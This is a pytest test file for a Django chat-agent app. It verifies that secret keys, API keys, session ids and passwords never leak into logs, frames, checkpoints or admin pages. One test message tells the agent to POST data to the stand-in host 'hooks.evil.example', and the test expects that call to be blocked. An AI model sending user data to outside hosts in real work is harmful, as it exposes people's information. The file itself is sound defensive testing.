"""Secrets stay secret: the Django secret key, the model's API key, session ids and
the password appear in no log line (even at DEBUG), error frame, checkpoint or admin
page, on the offline model and on a model server that fails every request.

In-process: the app's log handler (with its filters) at DEBUG and the test process's
output stand for a server's log; sockets go through channels' communicator, pages
through Django's client with its CSRF checks on, both logged in with the password.
"""

import json
import logging
import uuid

import pytest
from django.contrib.admin.utils import quote
from django.contrib.auth.models import User
from django.db import connection

from conversations import orm
from tests.support.frames import BAD_FRAMES
from tests.support.in_process import (
    Browser,
    Person,
    ask,
    clear_checkpoint_tables,
    decide,
    logged_in_through_the_form,
    run_ended,
    sql_rows,
)
from tests.support.openai_server import OpenAIServer

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("fast_passwords")]

SECRET_KEY = f"django-secret-{uuid.uuid4().hex}"
API_KEY = f"sk-secret-{uuid.uuid4().hex}"
PASSWORD = "correct horse battery staple"


@pytest.fixture
def secrets_set(settings, monkeypatch, caplog):
    """The secret key and the API key, in the settings and in the environment as a server
    process has them (redaction reads both); the log at DEBUG (LOG_LEVEL=DEBUG); e-mails
    written to the output, as the server's default backend does (tests default to
    Django's in-memory outbox)."""
    for name, value in {"DJANGO_SECRET_KEY": SECRET_KEY, "OPENAI_API_KEY": API_KEY}.items():
        monkeypatch.setenv(name, value)
    settings.SECRET_KEY = SECRET_KEY
    settings.OPENAI_API_KEY = API_KEY
    settings.EMAIL_BACKEND = "django.core.mail.backends.console.EmailBackend"
    caplog.set_level(logging.DEBUG)


async def signed_up(username: str, **fields) -> tuple[Person, Browser]:
    """A new user who logs in with the password, and the sockets and pages of that log-in."""
    user = await orm.to_async(User.objects.create_user)(username, password=PASSWORD, **fields)
    browser = await logged_in_through_the_form(username, PASSWORD)
    return Person(user, f"sessionid={browser.client.cookies['sessionid'].value}"), browser


async def approved(socket, content: str) -> list[dict]:
    """A message whose tool call waits for approval, approved; every frame of its run."""
    approval, frames = await ask(socket, content)
    return frames + await decide(socket, approval, "approve")


async def cancelled(socket) -> list[dict]:
    await socket.send({"type": "message.send", "content": "slow 400"})
    frames = await socket.receive_until(lambda f: f["type"] == "token")
    await socket.send({"type": "run.cancel"})
    frames += await socket.receive_until(run_ended)
    assert frames[-1]["run"]["status"] == "cancelled", frames[-1]
    return frames


async def bad_frames(socket) -> list[dict]:
    answers = []
    for _, raw, code in BAD_FRAMES:
        await socket.communicator.send_to(**({"bytes_data": raw} if isinstance(raw, bytes) else {"text_data": raw}))
        answers.append(await socket.receive())
        assert answers[-1]["code"] == code, answers[-1]
    return answers


async def checkpoint_texts() -> list[str]:
    """Everything the checkpointer stored: metadata, checkpoints and pending writes."""
    if connection.vendor == "sqlite":
        queries = ["SELECT metadata, checkpoint FROM checkpoints", "SELECT value FROM writes"]
    else:
        queries = [
            "SELECT metadata::text, checkpoint::text FROM checkpoints",
            "SELECT blob FROM checkpoint_blobs",
            "SELECT blob FROM checkpoint_writes",
        ]
    # Bytes as Latin-1: one character per byte, so an ASCII secret in a blob is found.
    return [
        bytes(value).decode("latin-1") if isinstance(value, (bytes, memoryview)) else str(value)
        for query in queries
        for row in await sql_rows(query)
        for value in row
    ]


async def admin_pages(root: Browser, conversation_id: str) -> dict[str, str]:
    """The pages a superuser sees about a conversation: its page and history, its
    checkpoint history at each checkpoint, the page of each run, message, approval and
    checkpoint, and the lists."""
    conversation = f"/admin/conversations/conversation/{conversation_id}"
    paths = [f"{conversation}/change/", f"{conversation}/history/", f"{conversation}/checkpoints/"]
    paths += [f"/admin/{model}/" for model in (
        "conversations/conversation", "conversations/run", "conversations/message", "conversations/approval",
        "agent/checkpoint", "agent/toolexecution", "agent/task",
    )]
    for model in ("run", "message", "approval"):
        for (pk,) in await sql_rows(f"SELECT id FROM conversations_{model}"):
            paths.append(f"/admin/conversations/{model}/{quote(str(pk))}/change/")
    checkpoints = await sql_rows("SELECT id, checkpoint_id FROM agent_checkpoint WHERE thread_id = %s", (conversation_id,))
    for pk, checkpoint_id in checkpoints:
        paths += [f"/admin/agent/checkpoint/{quote(pk)}/change/", f"{conversation}/checkpoints/?checkpoint={checkpoint_id}"]
    pages = {}
    for path in paths:
        response = await root.request("GET", path)
        assert response.status_code == 200, (path, response.status_code)
        pages[path] = response.content.decode()
    return pages


def assert_no_secret_in(haystacks: dict[str, str], secrets: dict[str, str]) -> None:
    for where, text in haystacks.items():
        for name, secret in secrets.items():
            assert secret not in text, f"{name} appears in {where}"


def secrets_of(*browsers: Browser) -> dict[str, str]:
    found = {"DJANGO_SECRET_KEY": SECRET_KEY, "OPENAI_API_KEY": API_KEY, "the password": PASSWORD}
    for index, browser in enumerate(browsers):
        found[f"session id {index}"] = browser.client.cookies["sessionid"].value
    return found


async def everything_stored_and_shown(log: str, output: str, root: Browser, conversation_id: str, frames: list[dict]) -> dict[str, str]:
    haystacks = {"the app's log": log, "the process's output": output}
    haystacks.update({f"frame {i}": json.dumps(frame) for i, frame in enumerate(frames)})
    haystacks.update({f"checkpoint row {i}": text for i, text in enumerate(await checkpoint_texts())})
    haystacks.update(await admin_pages(root, conversation_id))
    return haystacks


async def test_no_secret_in_logs_frames_checkpoints_or_admin(agent_runtime, secrets_set, app_log, capfd):
    await clear_checkpoint_tables()
    alice, alices_browser = await signed_up("alice")
    conversation = (await alices_browser.create_conversation("secrets"))["id"]
    socket = await alice.open(conversation)
    frames = [socket.snapshot]
    frames += await socket.chat("hello")
    frames += await socket.chat("task water the plants")
    frames += await approved(socket, "email bob@example.com Lunch: see you at noon")
    frames += await approved(socket, 'post http://hooks.evil.example/x {"a": 1}')  # a host not allowed: the tool fails
    frames += await cancelled(socket)
    frames += await bad_frames(socket)
    await socket.close()
    assert any(f["type"] == "tool" and f["status"] == "failed" for f in frames)
    _, root = await signed_up("root", is_staff=True, is_superuser=True)

    output = "".join(capfd.readouterr())
    haystacks = await everything_stored_and_shown(app_log.getvalue(), output, root, conversation, frames)
    assert sum(where.startswith("checkpoint row") for where in haystacks) > 0
    assert "see you at noon" in output  # the e-mail, on the console backend
    assert_no_secret_in(haystacks, secrets_of(alices_browser, root))


@pytest.fixture
def failing_model(settings):
    """An OpenAI-compatible server that refuses the app's key, as OpenAI does: it quotes
    the key's first and last characters only."""
    with OpenAIServer(api_key=f"sk-another-{uuid.uuid4().hex}") as server:
        settings.CHAT_MODEL = "openai:walk-model"
        settings.CHAT_MODELS = [settings.CHAT_MODEL]
        settings.OPENAI_BASE_URL = server.base_url
        yield server


async def test_no_secret_when_the_model_server_fails(agent_runtime, secrets_set, failing_model, app_log, capfd):
    await clear_checkpoint_tables()
    alice, alices_browser = await signed_up("alice")
    conversation = (await alices_browser.create_conversation("failing"))["id"]
    socket = await alice.open(conversation)
    frames = [socket.snapshot]
    frames += await socket.chat("hello")
    await socket.close()
    failed = frames[-1]["run"]
    assert failed["status"] == "failed" and "authentication failed" in failed["error"], failed
    assert [r.headers["authorization"] for r in failing_model.requests] == [f"Bearer {API_KEY}"]  # the key was in use
    _, root = await signed_up("root", is_staff=True, is_superuser=True)

    output = "".join(capfd.readouterr())
    haystacks = await everything_stored_and_shown(app_log.getvalue(), output, root, conversation, frames)
    assert "AuthenticationError" in haystacks["the app's log"]  # the failure was logged
    assert_no_secret_in(haystacks, secrets_of(alices_browser, root))
